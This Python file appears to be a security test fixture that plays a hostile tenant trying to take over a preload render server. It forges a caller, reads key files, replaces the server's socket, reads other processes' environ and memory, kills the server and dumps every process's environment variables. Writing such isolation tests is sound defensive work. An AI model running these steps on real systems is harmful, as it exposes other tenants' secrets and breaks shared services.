"""A tool made to run the tenant's code, from inside a preloaded render: the takeover of issue 27.

Run by tests/cmp_plugin/test_takeover.py's helm (``python3 -S hostile_tool.py CACHE LOG``) with
what a tenant's code can learn without help: the cache directory (a platform default), its own
pid and parent, and /proc. Each step is what an attacker does to take the preload server over or
reach another tenant's render; the outcome of each goes to LOG/takeover.json, and everything it
could read of other processes to LOG/dump.bin. Standard library only (no site, no project code).
"""

import contextlib
import json
import os
import socket
import sys

cache, log = sys.argv[1], sys.argv[2]
if os.path.exists(os.path.join(log, "attack-started")):
    sys.exit(0)  # a render this code got served runs the same chart: it attacks once
open(os.path.join(log, "attack-started"), "w").close()
sock_path = os.path.join(cache, "preload.sock")
outcome = {}


def step(name, action):
    try:
        result = action()
    except OSError as exc:
        outcome[name] = f"refused: {os.strerror(exc.errno) if exc.errno else exc}"
        return
    outcome[name] = "done" if result is None else result


def server_pid():
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as f:
                    argv = f.read().split(b"\0")
            except OSError:
                continue
            if b"cmp_plugin.preload.server" in argv and any(a.startswith(cache.encode()) for a in argv):
                return int(entry)
    return 0


def request_a_render():
    """Connect as a caller and ask for a render of another Application, with descriptors of ours.

    The sidecar's settings are copied from the server's environ when /proc gives it (a child
    serves only a caller whose settings are the server's); the challenge, when there is one, is
    answered with made-up bytes. A READY is answered with GO: the render runs, into our pipes.
    """
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(30)
    s.connect(sock_path)
    hello = s.recv(33)
    settings = []
    with contextlib.suppress(OSError):
        settings = [e for e in read(f"/proc/{server}/environ").split(b"\0") if e]
    if len(hello) > 1:
        s.sendall(os.urandom(64))  # a nonce and a proof made up
    magic = b"driftguard-preload 2" if len(hello) > 1 else b"driftguard-preload 1"
    fields = [magic, b"18", b"%d" % os.getpgrp(), *settings, b"ARGOCD_APP_NAME=victim"]
    body = b"\0".join(fields)
    _kept_open, out_w = os.pipe()  # the render writes here (a small chart: under the pipe buffer)
    fds = [0, out_w, out_w, os.open(".", os.O_RDONLY)]
    rights = b"".join(fd.to_bytes(4, sys.byteorder) for fd in fds)
    with contextlib.suppress(OSError):  # the child may have hung up already
        s.sendmsg([len(body).to_bytes(4, "big") + body], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
    learned = b""
    with contextlib.suppress(OSError):
        learned = s.recv(64)
    if learned[-1:] == b"R":  # READY: the forged caller is served
        s.sendall(b"G")
        code = s.recv(1)
        return f"done: served, exit {code[0] if code else '?'}"
    # a server proof (32 bytes) or anything else would mean the forged caller got somewhere
    return "done: " + learned.hex() if learned else f"refused: hello {len(hello)} bytes, then nothing"


def replace_socket():
    impostor = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    impostor.bind(os.path.join(cache, "impostor.sock"))
    os.replace(os.path.join(cache, "impostor.sock"), sock_path)


def read(path, size=-1):
    with open(path, "rb") as f:
        return f.read(size)


def read_memory(pid):
    with open(f"/proc/{pid}/mem", "rb") as f:
        f.seek(0x400000)
        f.read(16)


server = server_pid()
plugin = os.getppid()  # the sh wrapper; its parent is the plugin process rendering this Application
plugin = int(read(f"/proc/{plugin}/stat").rsplit(b")", 1)[1].split()[1])
outcome["found-server"] = bool(server)
step("request-a-render", request_a_render)
step("read-key", lambda: read(os.path.join(cache, "preload.key")) and None)
step("list-cache", lambda: os.listdir(cache) and None)
step("remove-socket", lambda: os.unlink(sock_path))
step("replace-socket", replace_socket)
step("write-launch-plan", lambda: open(os.path.join(cache, "victim.plan"), "w").close())
step("write-cache", lambda: open(os.path.join(cache, "planted.json"), "w").close())
step("read-plugin-environ", lambda: read(f"/proc/{plugin}/environ") and None)
step("read-plugin-memory", lambda: read_memory(plugin))
step("read-server-environ", lambda: read(f"/proc/{server}/environ") and None)
step("read-server-memory", lambda: read_memory(server))
step("stop-server", lambda: os.kill(server, 19))
step("kill-server", lambda: os.kill(server, 9))

dump = bytearray()
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        for name in ("cmdline", "environ"):
            with contextlib.suppress(OSError):
                dump += read(f"/proc/{entry}/{name}")
with open(os.path.join(log, "dump.bin"), "wb") as f:
    f.write(dump)
with open(os.path.join(log, "takeover.json"), "w") as f:
    json.dump(outcome, f)
